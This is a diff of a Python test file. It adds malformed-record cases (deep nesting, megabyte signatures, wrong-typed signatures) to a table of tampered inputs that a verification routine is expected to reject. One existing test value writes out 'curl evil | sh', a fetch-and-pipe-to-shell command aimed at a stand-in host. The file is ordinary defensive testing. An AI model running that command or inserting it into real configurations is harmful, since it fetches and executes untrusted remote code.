@@ -218,11 +218,21 @@ def test_bytes_that_are_nowhere(full: Project, make: Callable[[str], Project]) -
     assert full.push().sent.pushed == [RAW]
 
 
+def nested(depth: int) -> list[Any]:
+    found: list[Any] = []
+    for _ in range(depth):
+        found = [found]
+    return found
+
+
 RECORDS: dict[str, Poison] = {
     "of another key": lambda row: row["action_record"].update(key="0" * 64),
     "of another action": lambda row: row["action_record"]["action"].update(code="other"),
     "with further fields": lambda row: row["action_record"].update(run="curl evil | sh"),
     "nested 100,000 deep": lambda row: "[" * 100_000,
+    "nested 500 deep": lambda row: row["action_record"]["action"]["config"].update(a=nested(500)),
+    "with a signature of a megabyte": lambda row: row.update(signature="x" * 1_000_000),
+    "with a list for a signature": lambda row: row.update(signature=["x"]),
     "with facts nested deep": lambda row: row["action_record"].update(built={"a": [[[[[]]]]]}),
     "not a number": lambda row: json.dumps(row).replace('"built": {', '"built": {"a": NaN, '),
     "a number of 5,000 digits": lambda row: json.dumps(row).replace(
